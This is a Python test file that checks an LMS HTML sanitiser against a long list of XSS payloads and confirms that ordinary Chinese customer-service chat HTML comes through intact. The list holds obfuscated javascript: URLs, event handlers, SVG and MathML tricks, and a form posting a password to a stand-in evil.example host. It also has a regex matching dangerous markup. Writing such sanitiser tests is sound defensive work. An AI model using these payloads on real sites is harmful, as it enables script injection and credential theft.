"""
HTML from outside the editor (a pasted chat transcript, an import) goes through
lms.sanitise: hostile markup comes out harmless, a chat tool's ordinary Chinese HTML comes
out whole.
"""

import re

import pytest
from bleach import html5lib_shim

from lms.sanitise import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    html_to_text,
    sanitise_html,
)

HOSTILE = [
    # script tags in every spelling
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",  # never closed
    "<<script>alert(1);//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # text that reads like a tag stays text
    # on* handlers
    "<p onclick=alert(1)>点我</p>",
    '<p ONMOUSEOVER="alert(1)">悬停</p>',
    "<b onmouseover=alert(1)//>粗</b>",
    "<body onload=alert(1)>正文</body>",
    '<a href="https://example.com" onfocus="alert(1)" autofocus>链接</a>',
    "<details open ontoggle=alert(1)>",
    # javascript:, vbscript: and data: URLs, plain and obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="/cms/">relative</a>',
    '<a href="tel:13812345678">电话</a>',
    # style: elements, expression(), url(), escapes
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<span style="font-weight:expression(alert(1))">x</span>',
    '<span style="font-weight:url(https://evil.example/t.gif)">x</span>',
    '<span style="font-style:\\65 xpression(alert(1))">x</span>',
    '<span style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">x</span>',
    '<span style="font-weight:bold;background-image:url(&#34;javascript:alert(1)&#34;)">x</span>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">遮住页面</div>',
    # svg and math payloads
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    # images, media, frames, objects
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="https://tracker.example/pixel.gif">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # nested and unclosed tags, comments, CDATA
    "<p><b><i>未闭合",
    "<b><script>alert(1)</b></script>",
    "<a href='https://example.com'><a href='javascript:alert(1)'>嵌套</a></a>",
    "<!-- <script>alert(1)</script> -->注释",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    '<xmp><img src=x onerror="alert(1)"></xmp>',
    "<template><script>alert(1)</script></template>",
    # the document's head: base, meta refresh, link
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # forms and buttons
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">提交</button>',
    '<form><button formaction="https://evil.example">提交</button></form>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<select><option onclick="alert(1)">选项</option></select>',
    # target=_blank without rel
    '<a href="https://example.com" target="_blank">新窗口</a>',
    '<a href="https://example.com" target="_blank" rel="opener">新窗口</a>',
]

DANGEROUS = re.compile(
    r"<\s*/?\s*(script|style|iframe|svg|math|img|object|embed|form|button|input|base|meta|link"
    r"|template|textarea|select|video|audio|source)\b"
    r"|\bon[a-z]+\s*=|javascript|vbscript|data:|expression|url\(|formaction|target=|srcdoc",
    re.IGNORECASE,
)


def _elements(html: str):
    """Every element of the output as the browser would parse it: (tag, {attr: value})."""
    parser = html5lib_shim.BleachHTMLParser(
        tags=None, strip=False, consume_entities=True, namespaceHTMLElements=False
    )
    walker = html5lib_shim.getTreeWalker("etree")
    for token in walker(parser.parseFragment(html)):
        if token["type"] in ("StartTag", "EmptyTag"):
            yield token["name"], {name: value for (_ns, name), value in token["data"].items()}


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_out_harmless(html):
    clean = sanitise_html(html)
    assert not DANGEROUS.search(clean), clean
    for tag, attrs in _elements(clean):
        assert tag in ALLOWED_TAGS, (tag, clean)
        allowed = {*ALLOWED_ATTRIBUTES.get(tag, []), *(["rel"] if tag == "a" else [])}
        assert set(attrs) <= allowed, (tag, attrs)
        if tag == "a" and "href" in attrs:
            assert re.match(r"(https?://|mailto:)", attrs["href"]), attrs
            assert attrs["rel"] == LINK_REL
    # Cleaning what is clean changes nothing: nothing is left for a second pass to find.
    assert sanitise_html(clean) == clean


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<script>alert(1)</script>您好", "您好"),  # the script's source is not left as text
        ("<p>物流<style>p{color:red}</style>延误</p>", "<p>物流延误</p>"),
        ("<svg><script>alert(1)</script></svg>请稍等", "请稍等"),
        ("<p onclick=alert(1)>点我</p>", "<p>点我</p>"),
        ('<a href="javascript:alert(1)">退款链接</a>', "退款链接"),
        ('<a href="/cms/">后台</a>', "后台"),
        (
            '<a href="https://example.com/订单" target="_blank" onclick="x()">查看订单</a>',
            f'<a href="https://example.com/订单" rel="{LINK_REL}">查看订单</a>',
        ),
        (
            '<a href="https://example.com" rel="opener">x</a>',
            f'<a href="https://example.com" rel="{LINK_REL}">x</a>',
        ),
        (
            '<span style="font-weight:bold;color:red;background:url(javascript:alert(1))">'
            "重要</span>",
            '<span style="font-weight: bold">重要</span>',
        ),
        ('<span style="font-weight:expression(alert(1))">重要</span>', "<span>重要</span>"),
        ("<img src=x onerror=alert(1)>[微笑]", "[微笑]"),
        ("<p><b>未闭合", "<p><b>未闭合</b></p>"),
        ("&lt;script&gt;不是标签&lt;/script&gt;", "&lt;script&gt;不是标签&lt;/script&gt;"),
        ('<button formaction="javascript:alert(1)">提交</button>好的', "好的"),
        ('<form action="https://evil.example"><p>表单里的话</p></form>', "<p>表单里的话</p>"),
    ],
)
def test_what_is_left_of_hostile_html_is_exactly_this(html, expected):
    assert sanitise_html(html) == expected


CHAT_HTML = (
    '<div class="msg customer" data-id="88"><span class="name">客户</span> '
    '<span class="time">10:02</span><p>你好，我的快递<strong>三天</strong>都没到，'
    "订单号 20261123000012345，怎么回事？</p></div>"
    '<div class="msg agent"><p>您好，非常抱歉让您久等了！<br>我马上为您查询物流。</p>'
    "<ol><li>核实订单信息</li><li>联系快递公司</li><li>两小时内回电</li></ol>"
    '<p>物流查询：<a href="https://www.kuaidi100.com/?no=YT1234567890123">点击这里</a>'
    "（“顺丰”&amp;“圆通”均可）</p>"
    '<p><em>温馨提示</em>：<span style="font-weight: bold">退款 3～5 个工作日</span>到账。</p>'
    "<ul><li>满意请点赞 👍</li></ul><hr><h3>处理结果</h3><p>已补发 ✔</p></div>"
)


def test_a_chat_tools_chinese_html_comes_through_whole():
    clean = sanitise_html(CHAT_HTML)
    for kept in [
        "<strong>三天</strong>",
        "订单号 20261123000012345，怎么回事？",
        "您好，非常抱歉让您久等了！<br>我马上为您查询物流。",
        "<ol><li>核实订单信息</li><li>联系快递公司</li><li>两小时内回电</li></ol>",
        f'<a href="https://www.kuaidi100.com/?no=YT1234567890123" rel="{LINK_REL}">点击这里</a>',
        "（“顺丰”&amp;“圆通”均可）",
        '<em>温馨提示</em>：<span style="font-weight: bold">退款 3～5 个工作日</span>到账。',
        "<ul><li>满意请点赞 👍</li></ul><hr><h3>处理结果</h3><p>已补发 ✔</p>",
        "<span>客户</span> <span>10:02</span><p>你好，我的快递",
    ]:
        assert kept in clean, kept
    # Only what we do not show went: the chat tool's classes and data attributes.
    assert "class=" not in clean and "data-id" not in clean


def test_nothing_is_the_empty_string():
    assert sanitise_html("") == "" and html_to_text("") == ""


def test_chat_html_becomes_one_line_per_message_with_entities_decoded():
    html = (
        "<div><b>客户</b>：我的快递&amp;发票三天都没到&hellip;<br>在吗？</div>\n  "
        '<div><b>客服</b>：&nbsp;您好，马上为您查询<img alt="[微笑]" src="emoji/1.png"></div>'
        "<div>客服：&lt;订单号&gt; 请提供一下</div>"
        "<p>客户：好的<br><br>谢谢</p>"
        "<script>alert(1)</script><style>.x{}</style><!-- 内部备注 -->"
        "<ul><li>物流查询</li><li>补发</li></ul>"
        "<table><tr><td>10:02</td><td>客户</td></tr></table>"
        "<p>中文　全角空格留着</p>"
    )
    assert html_to_text(html) == (
        "客户：我的快递&发票三天都没到…\n"
        "在吗？\n"
        "客服： 您好，马上为您查询[微笑]\n"
        "客服：<订单号> 请提供一下\n"
        "客户：好的\n"
        "\n"
        "谢谢\n"
        "物流查询\n"
        "补发\n"
        "10:02\t客户\n"
        "中文　全角空格留着"
    )


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT >",
        "<style>alert(1){}</style>",
        "<svg><script>alert(1)</script></svg>",
        "<template>alert(1)</template>",
        "<noscript>alert(1)</noscript>",
        "<iframe>alert(1)</iframe>",
        "<title>alert(1)</title>",
        "<textarea>alert(1)</textarea>",
        "<!-- alert(1) -->",
        "<select><option>alert(1)</option></select>",
    ],
)
def test_text_keeps_nothing_a_reader_would_not_see(html):
    assert html_to_text(f"<p>前</p>{html}<p>后</p>") == "前\n后"
